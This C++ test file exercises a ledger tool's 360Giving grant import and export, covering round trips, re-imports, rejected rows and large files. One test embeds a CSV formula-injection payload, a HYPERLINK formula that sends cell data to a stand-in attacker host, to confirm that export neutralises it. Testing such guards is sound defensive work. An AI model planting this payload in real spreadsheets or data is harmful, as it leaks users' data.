// import --format 360giving and export --format 360giving, end to end
// (docs/360giving.md): round trips, re-runs, every rejection, a large file.
#include <set>

#include "fixture.h"

using namespace fundtrail::test;

namespace {

const std::string kData = std::string(FUNDTRAIL_TEST_DATA) + "/360giving";

// The starting ledger plus the funder of the test files: Trafford Council,
// org id GB-LAE-TRF, with stranger.key as its officer and approver.key as
// its approver (grants of 1000.00 or more need both).
void add_trafford(const Books& b) {
  b.ok({"party", "add", "trafford", "--name", "Trafford Council", "--kind", "funder", "--sector", "public", "--org-id",
        "GB-LAE-TRF", "--key", b.key("admin")});
  b.ok({"grant-key", "trafford", b.key("stranger"), "--role", "officer", "--key", b.key("admin")});
  b.ok({"grant-key", "trafford", b.key("approver"), "--role", "approver", "--key", b.key("admin")});
}
constexpr uint64_t kTraffordSize = kStartSize + 3;

std::vector<std::string> import_args(const Books& b, const std::string& file, bool admin = true) {
  std::vector<std::string> a{"import", "--format", "360giving", file, "--key", b.key("stranger"), "--key", b.key("approver")};
  if (admin) a.insert(a.end(), {"--admin-key", b.key("admin")});
  return a;
}

// RFC 4180 rows, for reading what export wrote.
std::vector<std::vector<std::string>> parse_csv(const std::string& text) {
  std::vector<std::vector<std::string>> rows;
  std::vector<std::string> row;
  std::string cell;
  bool quoted = false, any = false;
  for (size_t i = 0; i < text.size(); ++i) {
    char c = text[i];
    if (quoted) {
      if (c == '"' && i + 1 < text.size() && text[i + 1] == '"') cell += '"', ++i;
      else if (c == '"') quoted = false;
      else cell += c;
    } else if (c == '"') {
      quoted = any = true;
    } else if (c == ',') {
      row.push_back(cell), cell.clear(), any = true;
    } else if (c == '\r' || c == '\n') {
      if (c == '\r' && i + 1 < text.size() && text[i + 1] == '\n') ++i;
      if (any || !cell.empty()) row.push_back(cell), rows.push_back(row);
      row.clear(), cell.clear(), any = false;
    } else {
      cell += c, any = true;
    }
  }
  if (any || !cell.empty()) row.push_back(cell), rows.push_back(row);
  return rows;
}

// Exported CSV as {Identifier -> {title -> cell}}.
std::map<std::string, std::map<std::string, std::string>> by_id(const std::string& csv) {
  auto rows = parse_csv(csv);
  REQUIRE(!rows.empty());
  std::map<std::string, std::map<std::string, std::string>> out;
  for (size_t i = 1; i < rows.size(); ++i) {
    REQUIRE(rows[i].size() == rows[0].size());
    for (size_t k = 0; k < rows[0].size(); ++k) out[rows[i][0]][rows[0][k]] = rows[i][k];
  }
  return out;
}

// An import refused with exit 2 naming the grant's place and id (`where`)
// and the reason, leaving the ledger as it was.
void refused_at(const Books& b, const std::vector<std::string>& args, const std::string& where, const std::string& why) {
  Snapshot before = b.snapshot();
  RunResult r = b.ft(args);
  INFO(r);
  CHECK(r.code == 2);
  CHECK(contains(r.err, "fundtrail: error: " + where + ": "));
  CHECK(contains(r.err, why));
  CHECK(r.out.empty());
  CHECK(b.snapshot() == before);
}

std::map<std::string, std::string> party_by_org(const Books& b) {
  std::map<std::string, std::string> out;
  for (auto& p : b.ok_json({"party", "list", "--json"}))
    if (p.contains("org_ids"))
      for (auto& o : p["org_ids"]) out[o.get<std::string>()] = p["id"].get<std::string>();
  return out;
}

}  // namespace

TEST_CASE("360giving: a messy CSV file imports and a second import records nothing") {
  Books b;
  add_trafford(b);
  RunResult r = b.ft(import_args(b, kData + "/trafford.csv"));
  INFO(r);
  REQUIRE(r.code == 0);
  // One payment run (its batch record at seq 15): three new recipients
  // (16-18), then four grants (19-22); two rows of 360G-trafford-0002 are one grant.
  CHECK(r.out == "7 16 22\n");
  CHECK(contains(r.err, "4 grants, GBP 3825.55; 3 new parties"));
  for (const char* unused : {"Recipient Org:Charity Number", "Grant Programme:Title", "Beneficiary Location:Geographic Code",
                             "Last modified", "Internal Ref"})
    CHECK(contains(r.err, std::string("not imported: '") + unused + "'"));

  auto orgs = party_by_org(b);
  CHECK(orgs["GB-CHC-1164883"] == "hope");  // matched by org id, not registered again
  CHECK(orgs["GB-COH-07962245"] == "gb-coh-07962245");
  CHECK(orgs["GB-CHC-1090001"] == "gb-chc-1090001");
  CHECK(orgs["360G-trafford-Org_12"] == "360g-trafford-org_12");
  json pool = b.ok_json({"party", "show", "gb-chc-1090001", "--json"});
  CHECK(pool["kind"] == "pool");
  CHECK(pool["name"] == "GM Wellbeing Fund");
  CHECK(b.ok_json({"party", "show", "gb-coh-07962245", "--json"})["kind"] == "provider");

  json log = b.log();
  REQUIRE(log.size() == kTraffordSize + 8);
  CHECK(log[15]["kind"] == "batch");
  CHECK(log[16]["idempotency_key"] == "360giving-party:gb-coh-07962245");
  CHECK(log[19]["idempotency_key"] == "360giving:360G-trafford-0001");
  json food = b.ok_json({"show", "20", "--json"})["body"];
  CHECK(food["mechanism"] == "grant");
  CHECK(food["amount"] == "1250.50");
  CHECK(food["value_date"] == "2024-04-02");
  CHECK(contains(food["memo"].get<std::string>(), "running costs, \"winter\" appeal"));
  json wellbeing = b.ok_json({"show", "21", "--json"});
  CHECK(wellbeing["kind"] == "contribution");
  CHECK(wellbeing["body"]["to"] == "gb-chc-1090001");

  CHECK(b.balance("hope") == 50000);
  CHECK(b.balance("gb-coh-07962245") == 125050);
  CHECK(b.balance("gb-chc-1090001") == 200000);
  CHECK(b.balance("360g-trafford-org_12") == 7505);
  CHECK(b.balance("trafford") == -(50000 + 125050 + 200000 + 7505));

  // The same file again: nothing new, and the summary says why.
  Snapshot before = b.snapshot();
  json again = b.ok_json([&] {
    auto a = import_args(b, kData + "/trafford.csv");
    a.push_back("--json");
    return a;
  }());
  CHECK(again["recorded"] == 0);
  CHECK(again["already_recorded"] == 4);
  CHECK(again["new_parties"] == json::array());
  CHECK(again["grants"] == 4);
  CHECK(again["amount"]["GBP"] == "3825.55");
  CHECK(again["first_seq"].is_null());
  CHECK(b.snapshot() == before);
  verify_if_present({b.ledger.string()});
}

TEST_CASE("360giving: CSV to ledger to CSV keeps ids amounts dates and parties") {
  Books a;
  add_trafford(a);
  a.ok(import_args(a, kData + "/trafford.csv"));
  std::string out = a.file("out.csv");
  a.ok({"export", "--format", "360giving", "--csv", "--out", out});
  std::string first = read_file(out);
  auto grants = by_id(first);
  REQUIRE(grants.size() == 4);
  auto& food = grants["360G-trafford-0002"];
  CHECK(food["Amount Awarded"] == "1250.50");
  CHECK(food["Award Date"] == "2024-04-02");
  CHECK(food["Currency"] == "GBP");
  CHECK(food["Title"] == "Food bank");
  // The ledger stores no CR (docs/rules.md "Checks", `format`): a CR LF line
  // break in published text comes back as LF.
  CHECK(food["Description"] == "Food bank\nrunning costs, \"winter\" appeal");
  CHECK(food["Recipient Org:Identifier"] == "GB-COH-07962245");  // leading zero kept
  CHECK(food["Recipient Org:Name"] == "Pantry Ltd");
  CHECK(food["Funding Org:Identifier"] == "GB-LAE-TRF");
  CHECK(food["Funding Org:Name"] == "Trafford Council");
  CHECK(food["For Regrant Type"] == "");
  auto& youth = grants["360G-trafford-0001"];
  CHECK(youth["Amount Awarded"] == "500.00");
  CHECK(youth["Recipient Org:Identifier"] == "GB-CHC-1164883");
  CHECK(youth["Recipient Org:Name"] == "Hope Works");
  auto& fund = grants["360G-trafford-0003"];
  CHECK(fund["For Regrant Type"] == "FRG040");
  CHECK(fund["Grant Programme:Code"] == "gb-chc-1090001");
  CHECK(fund["Grant Programme:Title"] == "GM Wellbeing Fund");
  CHECK(fund["Recipient Org:Identifier"] == "GB-CHC-1090001");
  CHECK(fund["Amount Awarded"] == "2000.00");
  CHECK(grants["360G-trafford-0004"]["Amount Awarded"] == "75.05");
  CHECK(grants["360G-trafford-0004"]["Recipient Org:Identifier"] == "360G-trafford-Org_12");

  // Into a second ledger and out again: the same grants (Last Modified is
  // when each ledger recorded them, so it differs).
  Books c;
  add_trafford(c);
  c.ok(import_args(c, out));
  std::string second = c.ok({"export", "--format", "360giving", "--csv"}).out;
  auto again = by_id(second);
  REQUIRE(again.size() == grants.size());
  for (auto& [id, cells] : grants) {
    auto expected = cells;
    auto got = again[id];
    expected.erase("Last Modified");
    got.erase("Last Modified");
    CHECK_MESSAGE(got == expected, id);
  }
  CHECK(c.balance("hope") == a.balance("hope"));
  CHECK(c.balance("trafford") == a.balance("trafford"));
}

TEST_CASE("360giving: JSON to ledger to JSON keeps ids amounts dates and parties") {
  Books a;
  add_trafford(a);
  json summary = a.ok_json([&] {
    auto args = import_args(a, kData + "/trafford.json");
    args.push_back("--json");
    return args;
  }());
  CHECK(summary["grants"] == 3);
  CHECK(summary["recorded"] == 5);  // two new recipients, three grants
  CHECK(summary["amount"]["GBP"] == "13395.92");
  CHECK(summary["new_parties"] == json::array({"360g-trafford-ind-77", "gb-coh-00123456"}));
  CHECK(contains(summary["not_imported"].dump(), "beneficiaryLocation/0/geoCode"));
  CHECK(contains(summary["not_imported"].dump(), "beneficiaryLocation/n/geoCode"));
  CHECK(a.ok_json({"party", "show", "360g-trafford-ind-77", "--json"})["kind"] == "other");

  std::string out = a.ok({"export", "--format", "360giving"}).out;
  // Amounts are written as the exact decimal, not through a double.
  CHECK(contains(out, "\"amountAwarded\":750.25,"));
  CHECK(contains(out, "\"amountAwarded\":300.00,"));
  CHECK(contains(out, "\"amountAwarded\":12345.67,"));
  REQUIRE(json::accept(out));
  json first = json::parse(out);
  REQUIRE(first["grants"].size() == 3);
  json garden = first["grants"][0];
  CHECK(garden["id"] == "360G-trafford-1001");
  CHECK(garden["awardDate"] == "2024-06-01");
  CHECK(garden["recipientOrganization"][0]["id"] == "GB-CHC-1164883");
  CHECK(garden["fundingOrganization"][0] == json({{"id", "GB-LAE-TRF"}, {"name", "Trafford Council"}}));
  json hardship = first["grants"][1];
  CHECK(hardship["awardDate"] == "2024-06-02");  // the time of a date-time is not kept
  CHECK(hardship["recipientIndividual"] == json({{"id", "360G-trafford-IND-77"}, {"name", "Individual recipient"}}));
  CHECK(!hardship.contains("recipientOrganization"));
  CHECK(first["grants"][2]["description"] == "Lunch club for older people, \"Tuesdays\"");

  Books c;
  add_trafford(c);
  std::string file = c.file("exported.json");
  write_file(file, out);
  c.ok(import_args(c, file));
  std::string out2 = c.ok({"export", "--format", "360giving", "--json"}).out;
  json second = json::parse(out2);
  for (json* j : {&first, &second})
    for (auto& g : (*j)["grants"]) g.erase("dateModified");
  CHECK(second == first);
  for (const char* amount : {"\"amountAwarded\":750.25,", "\"amountAwarded\":300.00,", "\"amountAwarded\":12345.67,"})
    CHECK(contains(out2, amount));
}

TEST_CASE("360giving: every bad grant is refused with its line and id and nothing is written") {
  Books b;
  add_trafford(b);
  const std::string header =
      "Identifier,Title,Description,Currency,Amount Awarded,Award Date,Recipient Org:Identifier,Recipient Org:Name,"
      "Funding Org:Identifier,Funding Org:Name\n";
  const std::string good = "360G-t-1,Youth club,Evenings,GBP,10.00,2024-01-02,GB-CHC-1164883,Hope Works,GB-LAE-TRF,Trafford Council\n";
  struct Case {
    std::string row, why;
  };
  // The bad grant is the second, so the first (good) one shows that nothing
  // is recorded before the whole file has been checked.
  const std::vector<Case> cases = {
      {"360G-t-2,T,D,GBP,10.001,2024-01-02,GB-CHC-1164883,Hope Works,GB-LAE-TRF,Trafford", "has 3 decimals"},
      {"360G-t-2,T,D,GBP,1e3,2024-01-02,GB-CHC-1164883,Hope Works,GB-LAE-TRF,Trafford", "has an exponent"},
      {"360G-t-2,T,D,GBP,£10,2024-01-02,GB-CHC-1164883,Hope Works,GB-LAE-TRF,Trafford", "is not a decimal amount"},
      {"360G-t-2,T,D,GBP,\"1,000.00\",2024-01-02,GB-CHC-1164883,Hope Works,GB-LAE-TRF,Trafford", "is not a decimal amount"},
      {"360G-t-2,T,D,GBP,0.00,2024-01-02,GB-CHC-1164883,Hope Works,GB-LAE-TRF,Trafford", "is zero"},
      {"360G-t-2,T,D,GBP,-5.00,2024-01-02,GB-CHC-1164883,Hope Works,GB-LAE-TRF,Trafford", "has a sign"},
      {"360G-t-2,T,D,GBP,92233720368547758.08,2024-01-02,GB-CHC-1164883,Hope Works,GB-LAE-TRF,Trafford", "is too large"},
      {"360G-t-2,T,D,GBP,10.00,17/03/2014,GB-CHC-1164883,Hope Works,GB-LAE-TRF,Trafford", "is not YYYY-MM-DD"},
      {"360G-t-2,T,D,XYZ,10.00,2024-01-02,GB-CHC-1164883,Hope Works,GB-LAE-TRF,Trafford", "unknown currency code 'XYZ'"},
      {"360G-t-2,T,D,EUR,10.00,2024-01-02,GB-CHC-1164883,Hope Works,GB-LAE-TRF,Trafford", "is not this ledger's currency"},
      {"360G-t-2,,D,GBP,10.00,2024-01-02,GB-CHC-1164883,Hope Works,GB-LAE-TRF,Trafford", "the required field 'title'"},
      {"360G-t-2,T,D,GBP,10.00,2024-01-02,,,GB-LAE-TRF,Trafford", "the required recipient is missing"},
      {"360G-t-2,T,D,GBP,10.00,2024-01-02,GB-CHC-1164883,Hope Works,GB-LAE-XXX,Nobody", "is not a party of this ledger"},
  };
  for (auto& c : cases) {
    CAPTURE(c.row);
    write_file(b.file("bad.csv"), header + good + c.row + "\n");
    refused_at(b, import_args(b, b.file("bad.csv")), "line 3, grant 360G-t-2", c.why);
  }
  // Two rows of one grant that disagree.
  write_file(b.file("bad.csv"), header + good +
                                    "360G-t-1,Youth club,Evenings,GBP,11.00,2024-01-02,GB-CHC-1164883,Hope Works,GB-LAE-TRF,"
                                    "Trafford Council\n");
  expect_refused(b, import_args(b, b.file("bad.csv")), 2,
                 "line 3, grant 360G-t-1: conflicting rows for one Identifier: 'amountAwarded' is '11.00' here but '10.00' "
                 "at line 2");
  // A new recipient needs the administrator's key.
  write_file(b.file("new.csv"),
             header + "360G-t-3,T,D,GBP,10.00,2024-01-02,GB-CHC-9999999,New Charity,GB-LAE-TRF,Trafford Council\n");
  expect_refused(b, import_args(b, b.file("new.csv"), false), 2, "needs --admin-key");
  // ... an administrator's key, not any key.
  auto args = import_args(b, b.file("new.csv"), false);
  args.insert(args.end(), {"--admin-key", b.key("council")});
  expect_refused(b, args, 2, "holds no active administrator key");
  // A grant whose funder's key was not given.
  write_file(b.file("nokey.csv"), header + good);
  expect_refused(b, {"import", "--format", "360giving", b.file("nokey.csv"), "--key", b.key("council")}, 2,
                 "line 2, grant 360G-t-1: none of the --key files is an officer key of 'trafford'");
  // Funder collaboration into a party that is not a pool.
  write_file(b.file("frg.csv"), "Identifier,Title,Description,Currency,Amount Awarded,Award Date,Recipient Org:Identifier,"
                                "Recipient Org:Name,Funding Org:Identifier,Funding Org:Name,For Regrant Type\n"
                                "360G-t-4,T,D,GBP,10.00,2024-01-02,GB-CHC-1164883,Hope Works,GB-LAE-TRF,Trafford,FRG040\n");
  expect_refused(b, import_args(b, b.file("frg.csv")), 2, "line 2, grant 360G-t-4: regrant type FRG040");
  // Issue 20 defect 7: a raw NUL in a CSV title is refused where it is read.
  write_file(b.file("nul.csv"), header + "360G-t-5,a" + std::string(1, '\0') + "b,D,GBP,10.00,2024-01-02,GB-CHC-1164883,Hope "
                                         "Works,GB-LAE-TRF,Trafford Council\n");
  expect_refused(b, import_args(b, b.file("nul.csv")), 2, "line 2: a NUL byte");
  // Not a 360Giving file at all.
  write_file(b.file("plain.csv"), "kind,from,to,amount\npayment,a,b,1.00\n");
  expect_refused(b, import_args(b, b.file("plain.csv")), 2, "no 'Identifier' column");
  CHECK(b.size() == kTraffordSize);
}

TEST_CASE("360giving: bad JSON grants are refused with their index and id") {
  Books b;
  add_trafford(b);
  auto grant = [](const std::string& amount, const std::string& date = "\"2024-01-02\"") {
    return "{\"id\": \"360G-t-9\", \"title\": \"T\", \"description\": \"D\", \"currency\": \"GBP\", \"amountAwarded\": " +
           amount + ", \"awardDate\": " + date +
           ", \"recipientOrganization\": [{\"id\": \"GB-CHC-1164883\", \"name\": \"Hope\"}], "
           "\"fundingOrganization\": [{\"id\": \"GB-LAE-TRF\", \"name\": \"Trafford\"}]}";
  };
  const std::string good = "{\"id\": \"360G-t-1\", \"title\": \"T\", \"description\": \"D\", \"currency\": \"GBP\", "
                           "\"amountAwarded\": 5, \"awardDate\": \"2024-01-02\", \"recipientOrganization\": [{\"id\": "
                           "\"GB-CHC-1164883\", \"name\": \"Hope\"}], \"fundingOrganization\": [{\"id\": \"GB-LAE-TRF\", "
                           "\"name\": \"Trafford\"}]}";
  const std::vector<std::pair<std::string, std::string>> cases = {
      {grant("1.5e2"), "has an exponent"},
      {grant("1E2"), "has an exponent"},
      {grant("-10"), "has a sign"},
      {grant("0"), "is zero"},
      {grant("10.005"), "has 3 decimals"},
      {grant("100000000000000000000"), "is too large"},
      {grant("true"), "must be a number"},
      {grant("10", "\"17/03/2014\""), "is not YYYY-MM-DD"},
      {grant("10", "null"), "the required field 'awardDate'"},
  };
  for (auto& [g, why] : cases) {
    CAPTURE(g);
    write_file(b.file("bad.json"), "{\"grants\": [" + good + ", " + g + "]}");
    refused_at(b, import_args(b, b.file("bad.json")), "grants[1], grant 360G-t-9", why);
  }
  // Issue 20 defect 7: a NUL in a title (escaped in JSON) was signed cut short.
  std::string nul_title = good;
  const std::string plain_title = "\"title\": \"T\"";
  nul_title.replace(nul_title.find(plain_title), plain_title.size(), "\"title\": \"a\\u0000b\"");
  write_file(b.file("nul.json"), "{\"grants\": [" + nul_title + "]}");
  expect_refused(b, import_args(b, b.file("nul.json")), 2, "control character");
  write_file(b.file("bad.json"), "{\"grants\": [" + good + ", " + good + "]");
  expect_refused(b, import_args(b, b.file("bad.json")), 2, "not valid JSON");
  write_file(b.file("bad.json"), "[" + good + "]");
  expect_refused(b, import_args(b, b.file("bad.json")), 2, "is an object {\"grants\"");
  CHECK(b.size() == kTraffordSize);
}

TEST_CASE("360giving: dry run checks the file and writes nothing") {
  Books b;
  add_trafford(b);
  Snapshot before = b.snapshot();
  auto args = import_args(b, kData + "/trafford.csv");
  args.insert(args.end(), {"--dry-run", "--json"});
  json j = b.ok_json(args);
  CHECK(j["dry_run"] == true);
  CHECK(j["recorded"] == 7);
  CHECK(j["already_recorded"] == 0);
  CHECK(j["new_parties"].size() == 3);
  CHECK(b.snapshot() == before);
}

TEST_CASE("360giving: export publishes grant payments and leaves out reversed and other money") {
  Books b;
  // A grant paid by command (no 360Giving id: <prefix>-<seq>), a block
  // payment (not a grant), a reversed grant, and the fixture's contribution
  // (not from 360Giving).
  b.ok({"pay", "--from", "ace", "--to", "hope", "--amount", "40.00", "--mechanism", "grant", "--memo", "Start-up grant",
        "--date", "2025-05-01", "--key", b.key("ace")});  // seq 12
  b.ok({"pay", "--from", "ace", "--to", "hope", "--amount", "41.00", "--mechanism", "block", "--date", "2025-05-02", "--key",
        b.key("ace")});  // seq 13
  b.ok({"pay", "--from", "pool", "--to", "hope", "--amount", "42.00", "--mechanism", "grant", "--date", "2025-05-03", "--key",
        b.key("pool")});  // seq 14
  b.ok({"pay", "--from", "ace", "--to", "hope", "--amount", "43.00", "--mechanism", "grant", "--date", "2025-05-04", "--key",
        b.key("ace")});  // seq 15
  b.ok({"reverse", "15", "--reason", "paid in error", "--key", b.key("ace")});
  std::string out = b.ok({"export", "--format", "360giving", "--csv", "--prefix", "360G-riverside"}).out;
  auto grants = by_id(out);
  REQUIRE(grants.size() == 2);
  auto& start = grants["360G-riverside-12"];
  CHECK(start["Title"] == "Start-up grant");
  CHECK(start["Amount Awarded"] == "40.00");
  CHECK(start["Funding Org:Identifier"] == "360G-riverside-org-ace");  // ace has no org id
  CHECK(start["Funding Org:Name"] == "ACE Integrator Ltd");
  CHECK(start["Recipient Org:Identifier"] == "GB-CHC-1164883");
  auto& pooled = grants["360G-riverside-14"];
  CHECK(pooled["Grant Programme:Code"] == "pool");  // a pool is the grant programme
  CHECK(pooled["Grant Programme:Title"] == "Riverside Community Budget");
  CHECK(pooled["Funding Org:Identifier"] == "360G-riverside-org-pool");

  expect_refused(b, {"export", "--format", "360giving", "--prefix", "riverside"}, 2, "must be a 360Giving prefix");
  expect_refused(b, {"export", "--format", "360giving", "--csv", "--json"}, 2, "choose one");
}

TEST_CASE("360giving: text a spreadsheet would run as a formula is exported guarded and imports back unchanged") {
  Books a;
  add_trafford(a);
  const std::string title = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Youth club\")";
  const std::string description = "@SUM(1+1) and -2+3";
  const std::string recipient = "+Hope Works";
  std::string in = a.file("formulas.csv");
  write_file(in,
             "Identifier,Title,Description,Currency,Amount Awarded,Award Date,Recipient Org:Identifier,"
             "Recipient Org:Name,Funding Org:Identifier,Funding Org:Name\r\n"
             "360G-trafford-0100,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Youth club\"\")\",@SUM(1+1) and -2+3,"
             "GBP,500,2024-04-01,GB-CHC-2000001,+Hope Works,GB-LAE-TRF,Trafford Council\r\n");
  a.ok(import_args(a, in));

  std::string out = a.file("out.csv");
  a.ok({"export", "--format", "360giving", "--csv", "--out", out});
  std::string csv = read_file(out);
  CHECK(contains(csv, "\"'=HYPERLINK("));   // quoted for its commas, guarded inside
  CHECK(contains(csv, ",'@SUM(1+1) and -2+3,"));
  CHECK(contains(csv, ",'+Hope Works,"));
  CHECK(contains(csv, ",500.00,"));         // numbers are never guarded
  auto grant = by_id(csv).at("360G-trafford-0100");
  CHECK(grant["Title"] == "'" + title);

  // JSON carries no guard, and a second ledger fed the guarded CSV holds the
  // original text.
  auto json = a.ok_json({"export", "--format", "360giving", "--json"});
  CHECK(json["grants"][0]["title"] == title);
  Books c;
  add_trafford(c);
  c.ok(import_args(c, out));
  auto again = c.ok_json({"export", "--format", "360giving", "--json"})["grants"][0];
  CHECK(again["title"] == title);
  CHECK(again["description"] == description);
  CHECK(again["recipientOrganization"][0]["name"] == recipient);
}

TEST_CASE("360giving: a few thousand grants import verify and map in every format") {
  Books b;
  add_trafford(b);
  constexpr int kGrants = 3000;
  std::string csv =
      "Identifier,Title,Description,Currency,Amount Awarded,Award Date,Recipient Org:Identifier,Recipient Org:Name,"
      "Funding Org:Identifier,Funding Org:Name\r\n";
  int64_t total = 0;
  for (int i = 0; i < kGrants; ++i) {
    int64_t minor = 100 + (i * 7919) % 99000;  // 1.00 to 990.99: under the dual-control threshold
    total += minor;
    std::string amount = std::to_string(minor / 100) + "." + (minor % 100 < 10 ? "0" : "") + std::to_string(minor % 100);
    csv += "360G-trafford-" + std::to_string(i) + ",Grant " + std::to_string(i) + ",\"Grant, number " + std::to_string(i) +
           "\",GBP," + amount + ",2024-0" + std::to_string(1 + i % 9) + "-1" + std::to_string(i % 10) + ",GB-CHC-" +
           std::to_string(2000000 + i % 250) + ",Charity " + std::to_string(i % 250) + ",GB-LAE-TRF,Trafford Council\r\n";
  }
  write_file(b.file("big.csv"), csv);
  auto args = import_args(b, b.file("big.csv"));
  args.push_back("--json");
  json j = b.ok_json(args);
  CHECK(j["grants"] == kGrants);
  CHECK(j["recorded"] == kGrants + 250);
  CHECK(j["new_parties"].size() == 250);
  CHECK(b.balance("trafford") == -total);
  verify_if_present({b.ledger.string()});

  for (const char* format : {"graphml", "dot", "svg", "json", "csv"}) {
    CAPTURE(format);
    RunResult r = b.ft({"map", "export", "--format", format});
    INFO(r.err.substr(0, 500));
    CHECK(r.code == 0);
    CHECK(!r.out.empty());
    if (std::string(format) == "graphml") CHECK(contains(r.out, "gb-chc-2000249"));
  }
  std::string exported = b.ok({"export", "--format", "360giving", "--csv"}).out;
  CHECK(by_id(exported).size() == kGrants);
}

TEST_CASE("360giving: org ids of 70 to 200 bytes import, export and round-trip exactly, and one of 201 is refused") {
  Books a;
  add_trafford(a);
  const std::string header =
      "Identifier,Title,Description,Currency,Amount Awarded,Award Date,Recipient Org:Identifier,Recipient Org:Name,"
      "Funding Org:Identifier,Funding Org:Name\r\n";
  // Real 360Giving org ids are often 360G-<funder>-<a slug of the name>.
  auto org = [](size_t n) {
    std::string id = "360G-examplefund-";
    while (id.size() < n) id += "Long_Community_Organisation_Name_";
    return id.substr(0, n);
  };
  std::string csv = header;
  const std::vector<size_t> lengths{70, 150, 200};
  for (size_t i = 0; i < lengths.size(); ++i)
    csv += "360G-trafford-L" + std::to_string(i) + ",Grant,Grant," + "GBP,500,2024-04-01," + org(lengths[i]) + ",Group " +
           std::to_string(i) + ",GB-LAE-TRF,Trafford Council\r\n";
  write_file(a.file("long.csv"), csv);
  a.ok(import_args(a, a.file("long.csv")));
  for (auto& p : a.ok_json({"party", "list", "--json"}))
    CHECK(p["id"].get<std::string>().size() <= 64);  // a party id made from a long org id stays a slug of 64 bytes
  auto exported = a.ok_json({"export", "--format", "360giving", "--json"})["grants"];
  std::set<std::string> ids;
  for (auto& g : exported) ids.insert(g["recipientOrganization"][0]["id"].get<std::string>());
  for (size_t n : lengths) CHECK_MESSAGE(ids.count(org(n)), "org id of " << n << " bytes lost or changed");
  // Round trip: the exported file imported into a second ledger names the same ids.
  std::string out = a.file("out.csv");
  a.ok({"export", "--format", "360giving", "--csv", "--out", out});
  Books c;
  add_trafford(c);
  c.ok(import_args(c, out));
  std::set<std::string> again;
  json second = c.ok_json({"export", "--format", "360giving", "--json"});
  for (auto& g : second["grants"]) again.insert(g["recipientOrganization"][0]["id"].get<std::string>());
  CHECK(again == ids);

  write_file(a.file("too-long.csv"), header + "360G-trafford-X,Grant,Grant,GBP,500,2024-04-01," + org(201) +
                                         ",Too long,GB-LAE-TRF,Trafford Council\r\n");
  expect_refused(a, import_args(a, a.file("too-long.csv")), 2, "200");
}

TEST_CASE("360giving --rejects: good grants are recorded, and each bad one is listed by place, identifier and reason") {
  Books b;
  add_trafford(b);
  const std::string header =
      "Identifier,Title,Description,Currency,Amount Awarded,Award Date,Recipient Org:Identifier,Recipient Org:Name,"
      "Funding Org:Identifier,Funding Org:Name\r\n";
  write_file(b.file("mixed.csv"),
             header + "360G-trafford-R1,Good,Good,GBP,500,2024-04-01,GB-CHC-3000001,Good Works,GB-LAE-TRF,Trafford Council\r\n"
                      "360G-trafford-R2,Bad date,Bad,GBP,500,01/04/2024,GB-CHC-3000002,Bad Date,GB-LAE-TRF,Trafford Council\r\n"
                      "360G-trafford-R3,Unknown funder,X,GBP,500,2024-04-01,GB-CHC-3000003,Orphan,GB-LAE-XXX,Nobody\r\n"
                      "360G-trafford-R4,Good too,Good,GBP,700,2024-04-02,GB-CHC-3000001,Good Works,GB-LAE-TRF,Trafford Council\r\n");
  expect_refused(b, import_args(b, b.file("mixed.csv")), 2, "line 3");
  auto args = import_args(b, b.file("mixed.csv"));
  args.insert(args.end(), {"--rejects", b.file("rejects.csv"), "--json"});
  json j = b.ok_json(args);
  CHECK(j["read"] == 4);
  CHECK(j["recorded"] == 2);
  CHECK(j["rejected"] == 2);
  CHECK(j["parties_registered"] == 1);
  std::string rejects = read_file(b.file("rejects.csv"));
  INFO(rejects);
  CHECK(contains(rejects, "line 3,,3,"));
  CHECK(contains(rejects, "is not YYYY-MM-DD"));
  CHECK(contains(rejects, "line 4,360G-trafford-R3,4,"));
  CHECK(contains(rejects, "not a party of this ledger"));
  json again = b.ok_json(args);
  CHECK(again["recorded"] == 0);
  CHECK(again["already_recorded"] == 2);
  verify_if_present({b.ledger.string()});
}
